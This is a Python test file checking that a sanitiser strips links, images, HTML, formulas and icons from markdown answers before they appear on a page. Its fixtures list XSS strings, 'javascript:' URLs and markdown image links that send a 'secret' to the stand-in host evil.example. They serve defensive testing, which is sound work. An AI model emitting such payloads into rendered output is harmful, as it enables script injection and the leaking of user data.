"""Text from outside shows on a page and does nothing else."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from ui import safe

_MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
_HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "<https://evil.example>",
    "[a]: https://evil.example\n\n[a]",
    "![a][b]\n\n[b]: https://evil.example",
    "&lt;script&gt; &#104;ttps://evil.example",
    "| a | b |\n|---|---|\n| `x | ![](https://evil.example) |",
    "`code` ![x](https://evil.example) `",
    "    indented ![x](https://evil.example)",
    "```\nfenced\n```",
    "\\![x](https://evil.example) \\\\![x](https://evil.example)",
    "$\\href{https://evil.example}{x}$ :material/home: :red[x] :smile:",
]

markdown = st.lists(
    st.one_of(
        st.sampled_from(_HOSTILE),
        st.text("![]()<>`\\*_|:/#$&~ \nahtps.", max_size=12),
        st.text(max_size=6),
    )
).map("".join)


def _tokens(text: str) -> list[Token]:
    found: list[Token] = []
    for token in _MARKDOWN.parse(text):
        found += [token, *(token.children or [])]
    return found


def _visible(text: str) -> str:
    return "".join(
        token.content for token in _tokens(text) if token.type in {"text", "code_inline"}
    )


@given(markdown)
def test_an_answer_never_loads_links_or_runs(text: str) -> None:
    kinds = {token.type for token in _tokens(safe.answer(text))}
    assert not kinds & {"image", "link_open", "html_inline", "html_block", "fence", "code_block"}


@given(markdown)
def test_an_answer_holds_nothing_that_the_page_makes_a_link_or_icon_of(text: str) -> None:
    shown = _visible(safe.answer(text)).lower()
    assert "://" not in shown
    assert "www." not in shown
    assert ":material/" not in shown
    assert ":smile:" not in shown


@given(markdown)
def test_plain_text_is_text_and_nothing_else(text: str) -> None:
    kinds = {token.type for token in _tokens(safe.plain(text))}
    assert kinds <= {"paragraph_open", "inline", "text", "paragraph_close", "text_special"}


@given(st.text("abc *_[]()<>#+-.!|~$`\\", max_size=40))
def test_plain_text_shows_every_character(text: str) -> None:
    assert _visible(safe.plain(text)) == " ".join(text.split())


@pytest.mark.parametrize("hostile", _HOSTILE)
def test_no_formula_survives(hostile: str) -> None:
    assert "$" not in safe.answer(hostile).replace("\\$", "")
    assert "$" not in safe.plain(hostile).replace("\\$", "")


def test_markers_of_citations_become_badges_and_other_numbers_stay() -> None:
    assert safe.answer("It does [1][3]. See [2].", numbers={1, 3}) == (
        "It does :blue-badge[1]:blue-badge[3]. See \\[2\\]."
    )


def test_emphasis_lists_and_code_stay() -> None:
    text = "**DAPO** is *new*:\n\n- `top_p` = 1\n- two"
    assert safe.answer(text) == "**DAPO** is *new*\\::\n\n- `top_p` = 1\n- two".replace(
        "\\::", "\\:"
    )


def test_a_link_leads_to_a_cited_paper_or_nowhere() -> None:
    cited = "https://arxiv.org/abs/2503.14476"
    text = f"[DAPO]({cited}) and [other](https://evil.example/x)"
    assert safe.answer(text, urls={cited}) == f"[DAPO]({cited}) and other"


def test_directional_overrides_and_controls_are_dropped() -> None:
    assert safe.plain("safe\u202efdp.exe\x1b[31m") == "safefdp\\.exe"


def test_a_long_title_is_cut() -> None:
    assert len(safe.short("word " * 100, most=40)) <= 40


def test_the_quote_is_marked_within_its_passage() -> None:
    assert safe.mark("One. Two [x]. Three.", 5, 13) == (
        "One\\. :yellow-background[Two \\[x\\]\\.] Three\\."
    )


@pytest.mark.parametrize(
    "url",
    [
        None, "javascript:alert(1)", "data:text/html,x", "https://", "ftp://example.org", "//evil.example",
        "https://user:word@evil.example", "https://a b", 'https://a"b', "https://[::1", "https://a\u202eb",
    ],
)  # fmt: skip
def test_only_web_addresses_become_links(url: str | None) -> None:
    assert safe.web_address(url) is None


def test_a_papers_address_is_a_web_address() -> None:
    assert safe.web_address("https://arxiv.org/abs/2503.14476")
